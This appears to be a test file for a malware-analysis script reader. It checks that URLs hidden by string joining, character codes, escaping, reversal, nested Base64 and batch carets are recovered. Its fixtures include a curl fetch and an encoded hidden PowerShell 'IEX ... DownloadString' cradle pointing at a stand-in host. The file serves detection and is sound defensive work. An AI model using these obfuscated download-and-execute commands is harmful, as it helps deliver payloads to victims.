import { describe, expect, test } from 'vitest'
import { startBudget } from '../archives/archive-member.ts'
import type { FileReading } from '../file-reading.ts'
import { scripts } from './reader.ts'

async function read(text: string, type = 'text/vbscript'): Promise<FileReading> {
  const bytes = Buffer.from(text)
  return scripts.read({ bytes, type, fileName: '', passwords: [], budget: startBudget(1_000_000) })
}

const TARGET = 'https://drop.example/stage.bin'
const base64 = (text: string, encoding: BufferEncoding = 'utf8') =>
  Buffer.from(text, encoding).toString('base64')

describe('where a script leads shows through', () => {
  test.each([
    ['as it stands', `curl ${TARGET} -o a`],
    ['joined strings', 'u = "https://dro" & "p.example/sta" + "ge.bin"'],
    ['character codes', Array.from(TARGET, (letter) => `Chr(${letter.charCodeAt(0)})`).join(' & ')],
    [
      'percent signs',
      `unescape("${Array.from(TARGET, (letter) => `%${letter.charCodeAt(0).toString(16)}`).join('')}")`,
    ],
    ['reversed text', `StrReverse("${Array.from(TARGET).reverse().join('')}")`],
    ['Base64', `atob("${base64(`location='${TARGET}'`)}")`],
    ['Base64 within Base64', `atob("${base64(`eval(atob('${base64(`x='${TARGET}'`)}'))`)}")`],
    ['carets of a batch file', `c^u^r^l h^ttps://drop.example/stage.bin`],
  ])('%s', async (_name, script) => {
    const { links = [] } = await read(script)
    expect(links.map(({ url }) => url)).toContain(TARGET)
  })
})

test('an encoded PowerShell command is shown as it would run', async () => {
  const command = `IEX (New-Object Net.WebClient).DownloadString('${TARGET}')`
  const { signs = [], links = [] } = await read(
    `powershell -nop -w hidden -enc ${base64(command, 'utf16le')}`,
    'application/x-bat',
  )
  expect(signs).toContainEqual({ kind: 'encoded-powershell', excerpt: command })
  expect(links.map(({ url }) => url)).toContain(TARGET)
})

test('an ordinary administration script shows what it calls and hides nothing', async () => {
  const { signs = [], facts = [] } = await read(
    'Set shell = CreateObject("WScript.Shell")\r\nshell.Run "notepad.exe"\r\n',
  )
  expect(new Set(signs.map(({ kind }) => kind))).toEqual(new Set(['script-execution']))
  expect(facts).toEqual([])
})

test('a script made unreadable by Windows Script Encoder says so', async () => {
  const { problems } = await read(
    '#@~^DgAAAA==\\ko$K6,J4kJ@#@&qgMAAA==^#~@',
    'application/x-vbscript-encoded',
  )
  expect(problems).toEqual(['encoded-script'])
})
